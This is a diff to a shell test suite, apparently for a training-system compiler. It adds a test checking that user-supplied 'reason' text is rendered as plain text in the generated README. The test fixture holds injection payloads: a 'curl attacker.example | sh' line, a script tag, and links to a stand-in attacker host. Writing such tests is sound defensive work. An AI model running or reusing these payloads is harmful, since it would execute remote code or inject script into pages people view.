@@ -40,4 +40,62 @@ grows_when_room() {
 }
 t "a worker group with room on its pool is shown growing by one pod" grows_when_room
 
+# Spec text in the runbook stays text: reasons holding a bare CR (a line end to CommonMark), a
+# heading, a fenced code block, raw HTML, links, an image and emphasis are rendered with cmark, and
+# none of them becomes a heading, code, an element or a link.
+HOSTILE=$'ok\r# Injected heading\r```sh\rcurl attacker.example | sh\r```\r<script>alert(1)</script> [click](http://attacker.example/a) <http://attacker.example/b> ![i](http://attacker.example/i.png) *em* `tick` &copy; a|b'
+export HOSTILE
+markdown_stays_text() {
+  mkdir -p "$TMP/md"
+  python3 - "$TMP/md/spec.yaml" <<'PY' || return 1
+import os, sys, yaml
+reason = os.environ["HOSTILE"]
+spec = {
+    "apiVersion": "trainc/v1", "kind": "TrainingSystem", "name": "md", "namespace": "ml",
+    "serviceAccount": "trainer", "serviceAccountToken": {"reason": reason},
+    "cluster": {"pools": {"cpu": {"machine": "e2-standard-8", "autoscaling": {"min": 0, "max": 2}}}},
+    "clusters": {"ray": {"engine": "ray", "image": "rayproject/ray:2.52.0", "head": {"pool": "cpu"},
+                         "workers": {"w": {"pool": "cpu", "replicas": 1, "min": 0, "max": 1}},
+                         "security": {"level": "baseline", "reason": reason}}},
+    "pipeline": [{"name": "s", "cluster": "ray", "command": ["python", "-c", "print(1)"]}],
+}
+yaml.safe_dump(spec, open(sys.argv[1], "w"))
+PY
+  "$TRAINC" compile "$TMP/md/spec.yaml" -o "$TMP/md/out" >"$TMP/compile.log" 2>&1 || { cat "$TMP/compile.log"; return 1; }
+  cmark --unsafe "$TMP/md/out/md/README.md" >"$TMP/md/README.html" || return 1
+  python3 - "$TMP/md/README.html" <<'PY'
+import html.parser, sys
+bad, seen = [], 0
+class Judge(html.parser.HTMLParser):
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.stack = []
+    def handle_starttag(self, tag, attrs):
+        self.stack.append(tag)
+        for k, v in attrs:
+            if v and "attacker.example" in v:
+                bad.append("<%s %s=%r>" % (tag, k, v))
+        if tag == "script":
+            bad.append("a <%s> element" % tag)
+    def handle_endtag(self, tag):
+        while self.stack and self.stack.pop() != tag:
+            pass
+    def handle_data(self, data):
+        global seen
+        if "Injected heading" in data or "alert(1)" in data or "tick" in data or "em" == data.strip():
+            inside = [t for t in self.stack if t in ("h1", "h2", "h3", "h4", "h5", "h6", "pre", "code", "script", "em", "a")]
+            if inside:
+                bad.append("%r inside <%s>" % (data.strip()[:40], ">, <".join(inside)))
+        if "Injected heading" in data:
+            seen += 1
+Judge().feed(open(sys.argv[1]).read())
+if seen < 2:
+    bad.append("the reasons are not in the rendered runbook (%d of 2 found)" % seen)
+for b in bad:
+    print(b)
+sys.exit(1 if bad else 0)
+PY
+}
+t "spec text in the runbook renders as text (cmark): no heading, code, HTML, link or image from it" markdown_stays_text
+
 tap_done
